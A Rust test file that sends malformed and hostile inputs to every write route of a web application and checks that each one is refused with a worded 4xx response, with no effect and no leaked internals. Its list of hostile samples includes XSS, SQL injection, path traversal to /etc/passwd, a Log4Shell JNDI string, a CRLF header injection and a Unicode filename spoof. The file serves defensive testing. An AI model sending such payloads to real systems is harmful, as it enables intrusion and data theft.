//! Everything that a stranger may send, sent to every way into the program: it is refused in words, nothing happens
//! and nothing breaks.

mod contents;
mod early;

use crate::rig::sources::{self, Property, Route};
use crate::rig::stage::Stage;
use crate::rig::web::{Answer, Web, encoded};
use reqwest::Method;
use serde_json::{Value, json};

/// What a stranger may write into a field.
/// It looks like nothing, and is refused like nothing wherever something has to be written.
const INVISIBLE: &str = "\u{200b} \u{2060}\u{ad}";
const HOSTILE: [&str; 9] = [
    "<script>alert(1)</script>",
    "'; drop table item; --",
    "../../../../etc/passwd",
    "${jndi:ldap://host.invalid/a}",
    "\u{202e}gnp.exe\u{200b}",
    "%00 \r\nSet-Cookie: a=b",
    INVISIBLE,
    contents::ENTITY,
    contents::LAUGHS,
];
const FORM: &str = "application/x-www-form-urlencoded";

/// A form of one button: sending it empty is the order itself.
fn is_an_order_without_fields(route: &Route) -> bool {
    let path = route.path.as_str();
    ["/sign-out", "/guideline/versions", "/rehearsal/people/{person}", "/people/{person}/password", "/people/{person}/leaving"]
        .contains(&path)
        || path.ends_with("/ending")
        || path.ends_with("/confirmation")
        || path.ends_with("/stopping")
        || path.ends_with("/attempts")
        || path.ends_with("/cases/{case}/closing")
        || path.ends_with("/items/{item}/block/done")
        || path.ends_with("/complaints/{complaint}/closing")
        || path.ends_with("/cases/{case}/told")
        || path.ends_with("/posts/{post}/copies")
        || path.ends_with("/posts/{post}/withdrawal")
        || path.ends_with("/profile/look")
        || path.ends_with("/handover")
        || path.ends_with("/compliance/{rule}")
        || path.ends_with("/accounts/{key}/snapshots")
        // Handed in already: handed in twice is handed in once.
        || path.ends_with("/submission")
        || ["search", "release", "telling", "outputs", "closing"]
            .iter()
            .any(|it| path.ends_with(&format!("/disclosures/{{disclosure}}/{it}")))
}

/// A form of nothing but free words: those of a stranger are as good a reason as any.
fn any_words_will_do(route: &Route) -> bool {
    let path = route.path.as_str();
    // A draft is anybody's, an applicant takes back their own, a proposer theirs, and whoever answers for an account says what is done.
    path == "/applications"
        // It is read and told, and nothing of it is kept.
        || ["/text", "/api/v1/text"].contains(&path)
        || [
            "/cases/{case}/restoration",
            "/plan/audience",
            "/applications/{application}/withdrawal",
            "/changes/{change}/withdrawal",
            "/versions/{version}/withdrawal",
            "/versions/{version}/return",
            // A statement is the words of whoever was asked.
            "/consulted/{consulted}",
            "/closing/cancellation",
            "/duties/{duty}",
            "/deviations/{deviation}/fixing",
            // Whoever may hold, lifts; whoever may approve, says no.
            "/holds/{hold}/lifting",
            "/disposals/{disposal}/withdrawal",
            // Whoever keeps the consents says why one was taken back; whoever does by hand says how.
            "/consents/{consent}/withdrawal",
            "/cases/{case}/by-hand",
            // What one asks one's manager is free words, and so is the provision of a mark.
            "/lines/{line}/question",
            "/lines/{line}/answer",
            "/items/{item}/secrecy",
            "/disclosures/{disclosure}/closing",
            "/disclosures/{disclosure}/refusals",
        ]
        .iter()
        .any(|it| path.ends_with(it))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_that_a_stranger_may_send_does_anything_or_breaks_anything() {
    let stage = Stage::set().await;
    let sent: Vec<Route> = sources::routes().into_iter().filter(|it| it.method != "GET").collect();
    let fields = sources::fields();
    for role in ["editor", "registrar", "administrator"] {
        let (person, program) = {
            let player = stage.rig.cast.with(role);
            (stage.rig.visit(player).await, stage.rig.api(player))
        };
        let before = stage.rig.log_length().await;
        for route in &sent {
            let path = stage.path(&route.path).await;
            if route.is_api() {
                send_to_api(&program, route, &path).await;
            } else {
                send_to_page(&person, route, &path, &fields).await;
            }
            let done = stage.rig.done_since(before).await;
            assert!(done.is_empty(), "{route:?} as {role} did something: {done:?}");
        }
    }
    stale_orders_are_refused(&stage).await;
    early::what_is_no_request_is_answered_in_words(&stage).await;
    early::what_nobody_serves_is_answered_with_a_page(&stage).await;
    assert!(!std::path::Path::new("/tmp/uppsikt-ute").exists(), "something was unpacked");
    assert!(stage.rig.witness.carried_out(|_| true).len() == 1, "something reached the platform");
    stage.rig.verify();
}

async fn send_to_page(person: &Web, route: &Route, path: &str, fields: &[String]) {
    let proven = |body: &str| format!("_proof={}&{body}", person.proof(path)).into_bytes();
    let all = |value: &str| -> String {
        let value = encoded(value);
        let pairs: Vec<String> = fields.iter().map(|it| format!("{it}={value}")).collect();
        pairs.join("&")
    };
    let mut bodies = vec![
        ("nothing", "", Vec::new()),
        ("no proof", FORM, all("1").into_bytes()),
        ("a false proof", FORM, format!("_proof=AAAA&{}", all("1")).into_bytes()),
        ("another form", "multipart/form-data; boundary=x", b"--x--".to_vec()),
        ("json", "application/json", b"{}".to_vec()),
        ("far too much", FORM, proven(&format!("reason={}", "a".repeat(300_000)))),
        ("no text", FORM, [proven("reason="), vec![0xff, 0xfe]].concat()),
        ("no text, encoded", FORM, proven("reason=%FF%FE&text=%C3%28")),
        ("half a letter", FORM, proven("reason=%E5&text=%")),
        ("nulls", FORM, proven("reason=%00&text=%00")),
    ];
    bodies.extend(contents::for_a_page(&person.proof(path)));
    if !is_an_order_without_fields(route) {
        bodies.push(("an empty form", FORM, proven("")));
        if !any_words_will_do(route) {
            bodies.extend(HOSTILE.iter().map(|it| (*it, FORM, proven(&all(it)))));
        }
    }
    for (what, kind, body) in bodies {
        let answer = person.post_bytes(path, kind, body).await;
        refused(route, what, &answer);
    }
}

async fn send_to_api(program: &Web, route: &Route, path: &str) {
    const JSON: &str = "application/json";
    let properties = sources::properties(&route.path);
    let object = |value: &dyn Fn(&Property) -> Value| -> Vec<u8> {
        let pairs = properties.iter().map(|it| (it.name.clone(), value(it)));
        serde_json::to_vec(&Value::Object(pairs.collect())).unwrap()
    };
    // Numbers where numbers belong, so that the words are looked at.
    let words = |text: &str| object(&|it| if it.kind == "integer" { 1.into() } else { text.into() });
    let mut bodies = vec![
        ("half an object", JSON, b"{\"text\":".to_vec()),
        ("a list", JSON, b"[]".to_vec()),
        ("deep", JSON, "[".repeat(100_000).into_bytes()),
        ("a form", "application/x-www-form-urlencoded", b"text=a".to_vec()),
        ("something unknown", JSON, json!({ "nobody_knows": 1 }).to_string().into_bytes()),
        ("far too much", JSON, json!({ "text": "a".repeat(300_000) }).to_string().into_bytes()),
    ];
    bodies.extend(contents::for_a_program());
    if !properties.is_empty() {
        bodies.extend([("nothing", JSON, Vec::new()), ("an empty object", JSON, b"{}".to_vec())]);
        let no_text = words("ÿþ").iter().map(|it| if *it == 0xc3 { 0xff } else { *it }).collect();
        // Handed in already: handed in twice is handed in once.
        let is_done = route.path.ends_with("/submission");
        if !is_done {
            bodies.extend([("numbers", JSON, object(&|_| 1.into())), ("no text", JSON, no_text)]);
        }
        if !is_done && !any_words_will_do(route) {
            bodies.extend(HOSTILE.iter().map(|it| (*it, JSON, words(it))));
        }
    }
    for (what, kind, body) in bodies {
        let method: Method = route.method.parse().unwrap();
        let answer = program.send_bytes(method, path, kind, body).await;
        refused(route, what, &answer);
        assert!(answer.json()["code"].as_str().is_some_and(|it| it.len() > 3), "{route:?} with {what}");
    }
}

/// Refused in words for a person, with nothing in it of what was sent or of what we are made of.
fn refused(route: &Route, what: &str, answer: &Answer) {
    let text = answer.text();
    let about = format!("{} {} with {what}: {}", route.method, route.path, answer.status);
    assert!((400..500).contains(&answer.status), "{about}\n{text}");
    let is_said = if answer.kind.contains("json") {
        answer.json()["title"].as_str().is_some_and(|it| it.len() > 3)
    } else {
        answer.kind.starts_with("text/html") && text.contains("<h1")
    };
    assert!(is_said, "{about} is not said in words\n{text}");
    for leak in ["<script>alert", "panicked", "rusqlite", "tokio", "/crates/", "root:x:", "hahahaha"] {
        assert!(!text.contains(leak), "{about} answers with {leak}\n{text}");
    }
}

/// Somebody decides about a wording, or a register entry, that is no longer what they saw.
async fn stale_orders_are_refused(stage: &Stage) {
    let editor = stage.rig.visit(stage.rig.cast.with("editor")).await;
    let registrar = stage.rig.visit(stage.rig.cast.with("registrar")).await;
    let before = stage.rig.log_length().await;
    let item = stage.question.id;
    let orders = [
        (
            &editor,
            format!("/items/{item}/answers"),
            vec![("seen", "1"), ("decisions", "0"), ("text", "I kväll.")],
        ),
        (&editor, format!("/items/{item}/leaving"), vec![("seen", "1"), ("note", "Behövs inte.")]),
        (
            &editor,
            format!("/items/{item}/moderation"),
            vec![("seen", "1"), ("ground", "profanity"), ("act", "hide"), ("reason", "Svordomar.")],
        ),
        (
            &registrar,
            format!("/register/{}/registration", stage.entry),
            vec![("change", "77"), ("matter", "Kommentar"), ("access", "public")],
        ),
        (
            &registrar,
            format!("/register/{}/declining", stage.entry),
            vec![("change", "77"), ("reason", "Ringa.")],
        ),
    ];
    for (web, path, fields) in orders {
        let answer = web.post(&path, &fields).await;
        assert!([409, 422].contains(&answer.status), "{path}: {} {}", answer.status, answer.text());
        assert!(answer.text().contains("<h1"), "{path}");
    }
    let done = stage.rig.done_since(before).await;
    assert!(done.is_empty(), "a stale order did something: {done:?}");
}
